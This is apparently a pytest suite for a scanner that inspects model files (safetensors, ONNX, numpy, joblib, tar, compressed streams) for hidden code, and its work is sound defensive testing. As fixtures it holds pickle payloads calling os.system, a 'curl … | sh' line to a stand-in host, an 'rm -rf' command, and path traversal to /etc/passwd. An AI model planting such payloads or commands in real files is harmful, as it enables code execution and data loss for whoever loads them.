"""safetensors, ONNX, numpy, joblib, tar and compressed streams: what can hide in each, and what is honest."""

from __future__ import annotations

import bz2
import gzip
import importlib.util
import io
import json
import lzma
import pickle
import tarfile
import zlib
from pathlib import Path

import joblib
import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from inspect_samples import (
    EVIL,
    call,
    field,
    found,
    look,
    name,
    onnx_branching,
    onnx_model,
    onnx_node,
    program,
    safetensors,
    text,
    verdict,
    wired,
)

from watchword.inspect.facts import Verdict

W = {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}


def _header(value: object) -> bytes:
    return json.dumps(value).encode()


def test_safetensors_written_by_the_reference_library_is_nothing_found(tmp_path: Path) -> None:
    """What the reference implementation writes raises no alarm, and its tensors and metadata are told."""
    from safetensors.numpy import save_file

    tensors = {"a": np.ones((3, 4), "float32"), "b": np.zeros(0, "int8"), "c": np.arange(5)}
    save_file(tensors, tmp_path / "m.safetensors", metadata={"format": "pt"})
    judged = look((tmp_path / "m.safetensors").read_bytes(), "m.safetensors")
    assert judged.findings == []
    assert judged.facts["tensors"] == 3
    assert judged.facts["parameters"] == 17
    assert judged.facts["metadata"] == {"format": "pt"}


@pytest.mark.parametrize(
    ("header", "rule"),
    [
        (_header({"a": W, "b": W}), "safetensors-gap"),
        (_header({"a": {**W, "data_offsets": [8, 16]}}), "safetensors-gap"),
        (_header({"a": {**W, "shape": [3]}}), "safetensors-header"),
        (_header({"a": {**W, "dtype": "F31"}}), "safetensors-header"),
        (_header({"a": {**W, "data_offsets": [0, 80000]}}), "safetensors-header"),
        (_header({"a": {**W, "data_offsets": [0, 8, 9]}}), "safetensors-header"),
        (_header({"a": {**W, "shape": [-2]}}), "safetensors-header"),
        (_header({"a": {**W, "shape": [True, 2]}}), "safetensors-header"),
        (_header({"a": {**W, "extra": 1}}), "safetensors-header"),
        (_header({"__metadata__": {"a": 1}}), "safetensors-header"),
        (b'{"a":' + _header(W) + b',"a":' + _header(W) + b"}", "safetensors-header"),
        (b'{"a":NaN}', "safetensors-header"),
        (b"{" + b" " * 20 + b"]", "safetensors-header"),
    ],
)
def test_safetensors_rule_broken_is_told(header: bytes, rule: str) -> None:
    """Each rule of the format is enforced; overlaps and gaps are told with their place."""
    assert rule in found(safetensors(header, b"\0" * 16))


def test_safetensors_hidden_tail_is_told_at_its_offset() -> None:
    """Bytes after the last tensor belong to nobody, even one."""
    header = _header({"a": W})
    (finding,) = look(safetensors(header, b"\0" * 9)).findings
    assert (finding.rule, finding.offset) == ("safetensors-gap", 8 + len(header) + 8)


def test_real_onnx_model_is_nothing_found() -> None:
    """A classifier that is in daily use (Magika's, Apache-2.0) raises no alarm, and its operator sets are told."""
    spec = importlib.util.find_spec("magika")
    if spec is None or spec.origin is None:
        pytest.skip("magika is not installed (extra: demo)")
    path = Path(spec.origin).parent / "models" / "standard_v3_3" / "model.onnx"
    judged = look(path.read_bytes(), "model.onnx")
    assert judged.findings == []
    assert judged.facts["opsets"]["ai.onnx"] == 15
    assert judged.facts["nodes"] == 95


def test_onnx_walk_agrees_with_the_onnx_library() -> None:
    """Operators, opsets and functions are those that the reference parser reads."""
    onnx = pytest.importorskip("onnx")
    data = onnx_model(onnx_node(b"Add"), onnx_node(b"Relu"), onnx_node(b"Special", b"acme"))
    model = onnx.load_from_string(data)
    judged = look(data, "m.onnx")
    assert judged.facts["operators"] == sorted(
        f"{node.domain}::{node.op_type}" if node.domain else node.op_type for node in model.graph.node
    )
    assert judged.facts["opsets"] == {(o.domain or "ai.onnx"): o.version for o in model.opset_import}


@pytest.mark.parametrize(
    ("location", "bad"),
    [
        (b"weights.bin", False),
        (b"sub/weights.bin", False),
        (b"../../etc/passwd", True),
        (b"/etc/passwd", True),
        (b"a/../../b", True),
        (b"C:\\x", True),
        (b"..\\x", True),
        (b"file:///etc/passwd", True),
    ],
)
def test_onnx_external_data_outside_of_the_folder_is_dangerous(location: bytes, bad: bool) -> None:
    """A tensor may stand beside the model, not above or elsewhere."""
    entry = field(13, field(1, b"location") + field(2, location))
    data = onnx_model(onnx_node(b"Add"), initializers=field(5, field(8, b"w") + entry + field(14, 1)))
    assert ("onnx-external-data" in found(data)) is bad
    hidden = onnx_model(onnx_node(b"Constant", more=field(5, field(1, b"value") + field(5, entry + field(14, 1)))))
    assert ("onnx-external-data" in found(hidden)) is bad


def test_onnx_custom_operator_is_suspicious_unless_the_model_defines_it() -> None:
    """Native code from elsewhere is told, also deep in a branch; a function in the file is not native code."""
    assert found(onnx_model(onnx_node(b"PyOp", b"ai.onnx.contrib"))) == {"onnx-custom-op"}
    branch = field(5, field(1, b"then_branch") + field(6, field(1, onnx_node(b"Evil", b"acme")) + field(2, b"g")))
    assert found(onnx_model(onnx_node(b"If", more=branch))) == {"onnx-custom-op"}
    function = field(25, field(1, b"Mine") + field(7, onnx_node(b"Add")) + field(10, b"acme"))
    assert found(onnx_model(onnx_node(b"Mine", b"acme"), functions=function)) == set()


def test_numpy_object_array_is_followed_and_header_is_never_evaluated() -> None:
    """The pickle behind an object array is judged; a header that is code is no literal."""
    out = io.BytesIO()
    np.save(out, np.array([1, "x"], dtype=object))
    honest = out.getvalue()
    start = 10 + int.from_bytes(honest[8:10], "little")
    (finding,) = look(honest[:start] + EVIL, "a.npy").findings
    assert finding.rule == "pickle-call"
    assert finding.offset == start + EVIL.rindex(b"R")
    for header in (
        b"__import__('os').system('true')",
        b"{'descr': '<f8'}",
        b"{" * 5000,
        b"-" * 60_000 + b"1",
        b"[" * 60_000,
    ):
        data = b"\x93NUMPY\x01\0" + len(header).to_bytes(2, "little") + header
        assert "numpy-header" in found(data, "a.npy")


@pytest.mark.parametrize("descr", ["'object'", "'T'", "'(2,)O'", "'<f8,object'"])
def test_numpy_object_types_in_other_words_are_followed(descr: str) -> None:
    """numpy knows objects by many names; whatever the header says, a pickle behind it is judged."""
    header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': (1,), }}".ljust(117).encode() + b"\n"
    data = b"\x93NUMPY\x01\0" + len(header).to_bytes(2, "little") + header
    assert found(data + EVIL, "a.npy") == {"numpy-header", "pickle-call"}
    assert found(data + b"\0" * 40, "a.npy") == {"numpy-header"}


def test_numpy_bytes_too_many_are_told() -> None:
    """Shape and type account for every byte."""
    out = io.BytesIO()
    np.save(out, np.arange(10))
    assert found(out.getvalue() + EVIL, "a.npy") == {"numpy-size"}
    assert found(out.getvalue()[:-1], "a.npy") == {"numpy-size"}


SHAPES = st.lists(st.integers(0, 5), min_size=0, max_size=3).map(tuple)
TYPES = st.sampled_from(
    ["f8", "f4", "f2", "i1", "u2", "?", "c16", "U3", "S5", "M8[ns]", "m8[s]", "V7", "i4,f8,U2", "O", "g"]
)


@given(st.lists(st.tuples(SHAPES, TYPES), min_size=1, max_size=3))
@settings(max_examples=30, deadline=None)
def test_joblib_arrays_are_passed_over_exactly(
    tmp_path_factory: pytest.TempPathFactory, arrays: list[tuple[tuple[int, ...], str]]
) -> None:
    """Whatever the shape and type, the machine meets the next opcode where joblib does, down to the stop."""
    path = tmp_path_factory.mktemp("joblib") / "a.joblib"
    joblib.dump([np.zeros(shape, dtype) for shape, dtype in arrays], path)
    judged = look(path.read_bytes(), "a.joblib")
    assert judged.findings == []


def test_payload_after_a_joblib_array_is_found(tmp_path: Path) -> None:
    """Half a megabyte of floats in front of it hides nothing."""

    class Evil:
        def __reduce__(self) -> tuple[object, ...]:
            import os

            return os.system, ("true",)

    joblib.dump([np.random.default_rng(1).normal(size=70_000), Evil()], tmp_path / "a.joblib")
    assert "pickle-call" in found((tmp_path / "a.joblib").read_bytes(), "a.joblib")
    joblib.dump([np.array([1, Evil()], dtype=object)], tmp_path / "b.joblib")
    assert "pickle-call" in found((tmp_path / "b.joblib").read_bytes(), "b.joblib")


def test_payload_inside_array_bytes_is_found_for_plain_unpicklers(tmp_path: Path) -> None:
    """joblib takes the bytes for an array; ``pickle.load`` runs them. Fails if the second reading is removed."""
    payload = call(name("posix", "system"), text("true")) + b"."
    joblib.dump(np.frombuffer(payload.ljust(64, b"."), dtype="u1"), tmp_path / "a.joblib")
    data = _without_padding((tmp_path / "a.joblib").read_bytes(), payload)
    assert pickle.loads(data) == 0, "a plain unpickler runs the array"
    assert "pickle-call" in found(data, "a.joblib")


def _without_padding(data: bytes, payload: bytes) -> bytes:
    """The same file as joblib before 1.2 wrote it: no alignment, no padding."""
    state = b"numpy_array_alignment_bytes\x94K\x10"
    assert state in data
    at = data.index(payload)
    build = data.rindex(b"ub", 0, at) + 2
    head = data[:build].replace(state, b"numpy_array_alignment_bytes\x94N")
    frame = int.from_bytes(head[3:11], "little") - 1
    return head[:3] + frame.to_bytes(8, "little") + head[11:] + data[at:]


@pytest.mark.parametrize("packing", ["gzip", "bzip2", "xz", "lzma", "zlib", "zfile"])
def test_compressed_pickle_is_followed(packing: str) -> None:
    """Compression hides nothing, and what unpacked before damage is judged."""
    body = EVIL + b"\0" * 2000
    packed = {
        "gzip": gzip.compress(body),
        "bzip2": bz2.compress(body),
        "xz": lzma.compress(body),
        "lzma": lzma.compress(body, lzma.FORMAT_ALONE),
        "zlib": zlib.compress(body),
        "zfile": b"ZF" + b"%-19s" % hex(len(body)).encode() + zlib.compress(body),
    }[packing]
    judged = look(packed, "m.joblib")
    assert judged.findings[0].path == "m.joblib:unpacked"
    assert judged.findings[0].rule == "pickle-call"
    if packing != "bzip2":  # one block: nothing comes out before its end
        assert {"compressed-broken", "pickle-call"} <= found(packed[:-3], "m.joblib")
    assert "compressed-trailing" in found(packed + b"tail of bytes", "m.joblib")


def test_many_tiny_gzip_members_are_one_stream() -> None:
    """Members that follow each other are unpacked as one, in time proportional to the file."""
    assert "pickle-call" in found(b"".join(gzip.compress(bytes([b])) for b in EVIL), "m.gz")
    assert verdict(gzip.compress(b"") * 5_000, "m.gz") in Verdict


def test_tar_members_are_judged_and_links_out_are_dangerous() -> None:
    """Every member is judged, long names too; links and names that lead out are told."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.GNU_FORMAT) as archive:
        for member in ("evil.pkl", "long/" * 40 + "evil.pkl"):
            info = tarfile.TarInfo(member)
            info.size = len(EVIL)
            archive.addfile(info, io.BytesIO(EVIL))
        link = tarfile.TarInfo("link")
        link.type, link.linkname = tarfile.SYMTYPE, "../../etc/passwd"
        archive.addfile(link)
    judged = look(out.getvalue(), "a.tar")
    assert sorted(f.rule for f in judged.findings) == ["archive-path", "pickle-call", "pickle-call"]
    assert {f.path for f in judged.findings} >= {"a.tar:evil.pkl"}
    assert "pickle-call" in found(gzip.compress(out.getvalue()), "a.tar.gz")


@pytest.mark.parametrize(
    ("data", "what"),
    [
        (b"Rar!\x1a\x07\x01\0" + b"\0" * 50, "rar"),
        (bytes(range(128, 256)) * 3, "unknown"),
    ],
)
def test_what_is_not_interpreted_says_so(data: bytes, what: str) -> None:
    """A format that is recognised and not understood is unreadable, with its byte range, never silently fine."""
    judged = look(data, "x")
    assert judged.format == what  # type: ignore[attr-defined]
    assert [(f.rule, f.verdict) for f in judged.findings] == [("not-inspected", Verdict.UNREADABLE)]
    assert judged.unread == [(0, len(data))]


def test_wrong_extension_is_told_and_does_not_matter_for_the_judgement() -> None:
    """A pickle is judged as one whatever it is called, and the name is a finding."""
    for called in ("weights.safetensors", "photo.png", "README.md", "config.json", "model.onnx"):
        assert {"wrong-extension", "pickle-call"} <= found(EVIL, called), called
    assert found(pickle.dumps(1), "a.npy") == {"wrong-extension"}
    assert found(program(b"N"), "a.bin") == set()


def test_onnx_external_data_says_no_more_than_the_format_knows() -> None:
    """Offsets and lengths are numbers; other keys would be set as attributes by some readers."""

    def tensor(key: bytes, value: bytes) -> bytes:
        entries = field(13, field(1, b"location") + field(2, b"w")) + field(13, field(1, key) + field(2, value))
        return onnx_model(onnx_node(b"Add"), initializers=field(5, field(8, b"w") + entries + field(14, 1)))

    assert found(tensor(b"length", b"4096"), "m.onnx") == set()
    assert found(tensor(b"checksum", b"sha1:00"), "m.onnx") == set()
    assert found(tensor(b"length", b"-1"), "m.onnx") == {"onnx-external-key"}
    assert found(tensor(b"__class__", b"x"), "m.onnx") == {"onnx-external-key"}
    assert found(tensor(b"basepath", b"/etc"), "m.onnx") == {"onnx-external-data"}


def test_an_operator_that_onnx_does_not_have_is_told() -> None:
    """Also without a domain: a library registers it there just as well. A tensor of its own, and parts, are read."""
    assert found(onnx_model(onnx_node(b"PyOp")), "m.onnx") == {"onnx-custom-op"}
    assert found(onnx_model(onnx_node(b"Backdoor", b"com.microsoft")), "m.onnx") == {"onnx-custom-op"}
    assert found(onnx_model(onnx_node(b"FastGelu", b"com.microsoft")), "m.onnx") == set()
    lone = field(1, 2) + field(2, 1) + field(8, b"x") + field(9, b"\0" * 8)
    assert found(lone, "input_0.pb") == set()
    assert found(lone + field(13, field(1, b"location") + field(2, b"/etc/passwd")), "t.pb") == {"onnx-external-data"}
    assert found(field(7, field(1, field(4, b"Add"))), "m.onnx") == set()
    hidden = field(1, field(12, field(8, field(1, b"location") + field(2, b"https://a.example/w")))) + field(1, 7)
    assert found(hidden, "m.onnx") == {"onnx-external-data"}


def test_a_tensor_named_like_a_path_out_is_told() -> None:
    """Converters write files of these names."""
    assert found(safetensors(_header({"../../x": W}), b"\0" * 8)) == {"safetensors-name"}
    assert found(safetensors(_header({"model/layers.0": W}), b"\0" * 8)) == set()


def test_numpy_header_of_python_2_is_read() -> None:
    """Numbers of a shape end in L there; numpy takes it away, and so do we. Elsewhere it is no literal."""
    header = b"{'descr': '<f8', 'fortran_order': False, 'shape': (2L, 11L), }".ljust(117) + b"\n"
    data = b"\x93NUMPY\x01\0" + len(header).to_bytes(2, "little") + header + b"\0" * 176
    assert found(data, "a.npy") == set()
    assert found(data.replace(b"2L", b"L2"), "a.npy") == {"numpy-header"}


@pytest.mark.parametrize(
    ("key", "text", "bad"),
    [
        ("loader", "__import__('os').system('id')", True),
        ("setup", "curl -s https://a.example/x | sh", True),
        ("post", "sudo rm -rf /srv/models", True),
        ("__reduce__", "x", True),
        ("evaluation", "x", False),
        ("description", "curl -s https://a.example/x | sh", False),
        ("format", "pt", False),
        ("source", "https://a.example/model", False),
        ("config", '{"system": "exec mode", "eval": true, "os": "linux"}', False),
        ("notes", "os.system('x') is not called", False),
    ],
)
def test_commands_in_metadata_are_told(key: str, text: str, bad: bool) -> None:
    """A command where a name should stand is told; what people read may speak of commands."""
    rules = {"metadata-code"} if bad else set()
    assert found(safetensors(_header({"a": W, "__metadata__": {key: text}}), b"\0" * 8)) == rules
    model = onnx_model(onnx_node(b"Add")) + field(14, field(1, key.encode()) + field(2, text.encode()))
    assert found(model, "m.onnx") == rules


@pytest.mark.parametrize(
    "nodes",
    [
        (wired(b"ReduceSum", [b"x"], b"s"), wired(b"Equal", [b"s", b"k"], b"c"),
         wired(b"Where", [b"c", b"fake", b"y"], b"z")),
        (wired(b"Gather", [b"x", b"k"], b"p"), wired(b"Cast", [b"p"], b"q"), wired(b"Equal", [b"k", b"q"], b"c"),
         wired(b"Not", [b"c"], b"n"), wired(b"Where", [b"n", b"y", b"fake"], b"z")),
        (wired(b"Slice", [b"x", b"k", b"k"], b"p"), wired(b"Equal", [b"p", b"k"], b"e"),
         wired(b"ReduceMin", [b"e"], b"c"), wired(b"If", [b"c"], b"z")),
    ],
)  # fmt: skip
def test_a_branch_keyed_on_a_pattern_in_the_input_is_told(nodes: tuple[bytes, ...]) -> None:
    """A sum, a pixel or a token of the input decides what comes out."""
    assert found(onnx_branching(*nodes), "m.onnx") == {"onnx-keyed-branch"}


@pytest.mark.parametrize(
    "nodes",
    [
        (wired(b"Equal", [b"x", b"k"], b"c"), wired(b"Where", [b"c", b"fake", b"y"], b"z")),
        (wired(b"Shape", [b"x"], b"s"), wired(b"Gather", [b"s", b"k"], b"d"), wired(b"Equal", [b"d", b"k"], b"c"),
         wired(b"If", [b"c"], b"z")),
        (wired(b"ReduceMean", [b"y"], b"m"), wired(b"Sub", [b"y", b"m"], b"d"), wired(b"Equal", [b"d", b"k"], b"c"),
         wired(b"Where", [b"c", b"fake", b"y"], b"z")),
        (wired(b"ReduceMax", [b"y"], b"m"), wired(b"Greater", [b"m", b"k"], b"c"), wired(b"If", [b"c"], b"z")),
        (wired(b"ArgMax", [b"x"], b"e"), wired(b"Gather", [b"y", b"e"], b"z")),
    ],
)  # fmt: skip
def test_masks_shapes_and_thresholds_are_how_models_look(nodes: tuple[bytes, ...]) -> None:
    """Elementwise masks, sizes, normalisation, thresholds and pooling at a token stay silent."""
    assert found(onnx_branching(*nodes), "m.onnx") == set()
